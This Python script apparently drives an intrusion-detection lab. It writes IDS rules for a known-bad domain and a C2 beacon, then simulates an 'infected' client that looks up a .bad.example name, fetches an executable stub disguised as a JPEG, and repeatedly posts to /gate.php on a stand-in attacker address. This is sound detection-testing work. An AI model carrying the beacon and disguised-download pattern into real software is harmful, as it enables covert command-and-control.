"""What happens at the site. Addresses and names come from a seed."""
import dataclasses
import itertools
import pathlib
import random
import socket
import struct
import sys
import time

WORDS = ("maple", "river", "stone", "cloud", "ember", "lotus", "pearl", "cedar", "amber", "onyx")


@dataclasses.dataclass
class Cast:
    """Who is who: addresses on the switch, outside, and names."""
    lan: str
    gateway: str
    client: str
    colleague: str
    files: str
    sensor: str
    bad: str
    good: str
    bad_name: str
    good_name: str
    path: str
    macs: dict

    @staticmethod
    def from_seed(seed):
        r = random.Random(seed)
        net = f"10.{r.randint(20, 199)}.{r.randint(0, 254)}"
        ends = r.sample(range(10, 240), 4)
        mac = lambda: "02:" + ":".join(f"{r.randint(0, 255):02x}" for _ in range(5))
        names = ("client", "colleague", "files", "gateway", "sensor")
        return Cast(
            lan=f"{net}.0/24", gateway=f"{net}.1", client=f"{net}.{ends[0]}",
            colleague=f"{net}.{ends[1]}", files=f"{net}.{ends[2]}", sensor=f"{net}.{ends[3]}",
            bad=f"203.0.113.{r.randint(2, 250)}", good=f"198.51.100.{r.randint(2, 250)}",
            bad_name=f"{r.choice(WORDS)}-{r.randint(100, 999)}.bad.example",
            good_name=f"www.{r.choice(WORDS)}.example",
            path=f"/{r.choice(WORDS)}{r.randint(10, 99)}/holiday.jpg",
            macs={name: mac() for name in names})


def rules(cast):
    """The site's rule file: the domain and the call home."""
    return f"""# Rules of the lab's site.
alert dns $HOME_NET any -> any any (msg:"LAB look-up of a known bad domain"; dns.query; content:"{cast.bad_name}"; nocase; bsize:{len(cast.bad_name)}; classtype:domain-c2; metadata:mitre_tactic_id TA0011, mitre_technique_id T1071.004; sid:9000001; rev:1;)
alert http $HOME_NET any -> any any (msg:"LAB call home of a test program"; flow:established,to_server; http.method; content:"POST"; http.uri; content:"/gate.php"; startswith; http.user_agent; content:"labbot/1"; classtype:command-and-control; metadata:mitre_tactic_id TA0011, mitre_technique_id T1071.001; sid:9000002; rev:1;)
"""


# --- parts that run inside namespaces: python3 story.py PART ARGUMENTS ---

def say(**fields):
    print(" ".join(f"{k}={v}" for k, v in fields.items()), flush=True)


def dns_question(name):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return struct.pack("!6H", random.getrandbits(16), 0x0100, 1, 0, 0, 0) + labels + b"\0" + \
        struct.pack("!2H", 1, 1)


def lookup(server, name, seconds=1.0):
    """The IPv4 address of a name, asked directly, or None."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(seconds)
        s.sendto(dns_question(name), (server, 53))
        try:
            answer = s.recv(1500)
        except OSError:
            return None
    return socket.inet_ntoa(answer[-4:]) if len(answer) > 40 else None


def http(address, request, seconds=1.5, connection=None):
    s = connection or socket.create_connection((address, 80), seconds)
    s.settimeout(seconds)
    s.sendall(request)
    data = b""
    while b"\r\n\r\n" not in data:
        more = s.recv(65536)
        if not more:
            raise OSError("closed")
        data += more
    head, body = data.split(b"\r\n\r\n", 1)
    length = next((int(l.split(b":")[1]) for l in head.split(b"\r\n")
                   if l.lower().startswith(b"content-length:")), 0)
    while len(body) < length:
        more = s.recv(65536)
        if not more:
            raise OSError("closed")
        body += more
    if not connection:
        s.close()
    return head, body


def get(host, path, agent):
    return (f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\nAccept: */*\r\n\r\n").encode()


def post(host, path, agent, body=b"id=7&state=idle"):
    return (f"POST {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\n"
            f"Content-Length: {len(body)}\r\n\r\n").encode() + body


def part_client(server, bad_name, bad, path, how):
    """The infected machine. `how`: both, rule (no download), behaviour (no known name, no call)."""
    say(at=time.time(), did="start")
    if how != "behaviour":
        say(at=time.time(), did="lookup", answer=lookup(server, bad_name))
    host = bad_name if how != "behaviour" else "cdn.example"
    if how != "rule":
        try:
            http(bad, get(host, path, "Mozilla/5.0"))
            say(at=time.time(), did="download")
        except OSError as e:
            say(at=time.time(), did="download-failed", why=type(e).__name__)
    gate, agent = ("/save", "Mozilla/5.0") if how == "behaviour" else ("/gate.php", "labbot/1")
    for n in itertools.count():
        try:
            http(bad, post(host, f"{gate}?n={n}", agent), 0.3)
            say(at=time.time(), did="home", n=n)
        except OSError as e:
            say(at=time.time(), did="home-failed", n=n, why=type(e).__name__)
        time.sleep(0.1)


def part_colleague(server, good_name, good, files):
    """Works on undisturbed: one long session with the file server, new ones to the web, DNS."""
    kept = socket.create_connection((files, 80), 2)
    failed = done = 0
    while True:
        try:
            http(files, get("files", "/plan.txt", "explorer"), 2, kept)
            done += 1
        except OSError as e:
            failed += 1
            say(at=time.time(), did="session-broken", why=type(e).__name__)
            try:
                kept = socket.create_connection((files, 80), 2)
            except OSError:
                pass
        try:
            if lookup(server, good_name, 2) is None:
                raise OSError("no answer")
            http(good, get(good_name, "/index.html", "Mozilla/5.0"), 2)
            done += 1
        except OSError as e:
            failed += 1
            say(at=time.time(), did="web-failed", why=type(e).__name__)
        say(at=time.time(), did="count", done=done, failed=failed)
        time.sleep(0.05)


# A program's first bytes under a picture's name: harmless, it is no program.
PROGRAM = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0\xb8" + b"\0" * 4000 + b"This is the lab's test file."


def part_web(address):
    """A small web server: pages, the false picture, and an ear for calls home."""
    import http.server
    import socketserver

    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def answer(self, body, kind):
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_GET(self):
            if self.path.endswith(".jpg"):
                self.answer(PROGRAM, "image/jpeg")
            else:
                self.answer(b"<html><body>good day</body></html>", "text/html")

        def do_POST(self):
            self.rfile.read(int(self.headers.get("Content-Length", 0)))
            self.answer(b"ok", "text/plain")

        def log_message(self, *_):
            pass

    class Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
        allow_reuse_address = True
        daemon_threads = True

        def server_bind(self):  # without the look-up of its own name
            socketserver.TCPServer.server_bind(self)
            self.server_name, self.server_port = address, 80

    Server((address, 80), Handler).serve_forever()


if __name__ == "__main__":
    globals()["part_" + sys.argv[1]](*sys.argv[2:])
